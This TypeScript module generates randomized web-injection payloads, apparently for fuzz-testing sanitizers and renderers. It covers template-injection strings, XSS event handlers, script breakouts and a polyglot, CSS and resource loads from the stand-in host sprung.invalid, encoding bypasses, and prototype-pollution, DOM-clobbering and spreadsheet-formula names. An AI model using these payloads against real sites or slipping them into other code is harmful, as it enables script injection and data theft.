import { below, pick } from '../seed/chance.ts'
import { handler, script } from './payload-markup.ts'
import { type Family, act, entities } from './payload-words.ts'

export const template: Family = (chance) => {
  const code = act(chance)
  return pick(chance, [
    `{{constructor.constructor('${code}')()}}`,
    `\${${code}}`,
    `#{${code}}`,
    `<%= ${code} %>`,
    `{{{title}}}`,
    `{{reply}}`,
    `{%${code}%}`,
    `<template data-answer="ticket-created" data-title="x">${code}</template>`,
    `<p ng-app ng-init="${code}">`,
    `<p v-html="'${code}'">`,
    `<form-island onfocus=${code} tabindex=1 autofocus>`,
    `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
    '$& $1 $`',
  ])
}
export const style: Family = (chance) =>
  pick(chance, [
    `<style>@import '//sprung.invalid/x.css'</style>`,
    `<p style="background:url(//sprung.invalid/x)">`,
    `<link rel=stylesheet href=//sprung.invalid>`,
    `</style><script>${act(chance)}</script>`,
    `<style>*{background:url(//sprung.invalid)}</style>`,
    `x;}*{background:url(//sprung.invalid/x)`,
    `<p style="x:expression(${act(chance)})">`,
    `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${act(chance)}>`,
    `<link rel=preload as=script href=//sprung.invalid/x.js>`,
    `<img srcset="//sprung.invalid/x 1x">`,
  ])
export const breakout: Family = (chance) =>
  pick(chance, [
    `'-${act(chance)}-'`,
    `";${act(chance)}//`,
    `</script><script>${act(chance)}//`,
    `\\u003cscript\\u003e${act(chance)}`,
    `\u2028${act(chance)}//`,
    `*/${act(chance)}/*`,
    `\`;${act(chance)};\``,
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${act(chance)}//'>`,
  ])
export const encoded: Family = (chance) => {
  const plain = pick(chance, [script, handler])(chance)
  return pick(chance, [
    encodeURIComponent,
    entities,
    (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text: string) => encodeURIComponent(encodeURIComponent(text)),
    (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (text: string) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
    (text: string) => text.replaceAll('<', '<\u200b'),
    (text: string) => text.replaceAll('<', '\\x3c'),
    (text: string) => `\u202e${text}`,
    (text: string) => text.replaceAll('<', '&amp;lt;'),
    (text: string) => text.replaceAll('<', '\u{e003c}<'),
  ])(plain)
}
export const naming: Family = (chance) =>
  pick(chance, [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '{"__proto__":{"sprung":1}}',
    '__proto__[sprung]',
    '[object Object]',
    'null',
    'undefined',
    'constructor.prototype.sprung',
    '<img name=body>',
    '<form id=location>',
    '<a id=document>',
    '<img name=getElementById>',
    'javascript:void',
    '-1',
    '=HYPERLINK(1)',
    '@SUM(1)',
  ]) + pick(chance, ['', '', ` ${below(chance, 1000)}`])
